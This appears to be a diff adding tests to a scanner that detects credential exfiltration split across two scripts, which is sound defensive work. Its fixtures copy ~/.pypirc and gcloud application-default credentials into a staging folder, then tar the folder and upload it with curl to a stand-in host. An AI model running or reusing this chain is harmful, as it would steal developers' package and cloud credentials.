@@ -117,3 +117,23 @@ def test_a_node_shipper_of_another_folder_is_quiet(tmp_path: Path) -> None:
         "}\n"
     )
     assert scan_errors(tmp_path, {"scripts/stage.sh": _SH_STAGER, "scripts/push.js": shipper}) == set()
+
+
+_COPY_INTO_FOLDER = (
+    "import os, shutil\n"
+    "crate = os.path.expanduser('~/.local/share/tracebox')\n"
+    "os.makedirs(crate, exist_ok=True)\n"
+    "for item in ('~/.pypirc', '~/.config/gcloud/application_default_credentials.json'):\n"
+    "    shutil.copy2(os.path.expanduser(item), crate)\n"
+)
+
+
+def test_an_archive_of_the_working_folder_after_cd(tmp_path: Path) -> None:
+    shipper = '#!/bin/sh\ncd "$HOME/.local/share/tracebox" || exit 1\ntar czf /tmp/t.tgz .\ncurl -sT /tmp/t.tgz https://tracebox-sink.org/\n'
+    errors = scan_errors(tmp_path, {"scripts/stage.py": _COPY_INTO_FOLDER, "scripts/push.sh": shipper})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/push.sh", 4) in errors
+
+
+def test_an_archive_of_another_working_folder_is_quiet(tmp_path: Path) -> None:
+    shipper = '#!/bin/sh\ncd "$HOME/work/site" || exit 1\ntar czf /tmp/t.tgz .\ncurl -sT /tmp/t.tgz https://tracebox-sink.org/\n'
+    assert scan_errors(tmp_path, {"scripts/stage.py": _COPY_INTO_FOLDER, "scripts/push.sh": shipper}) == set()
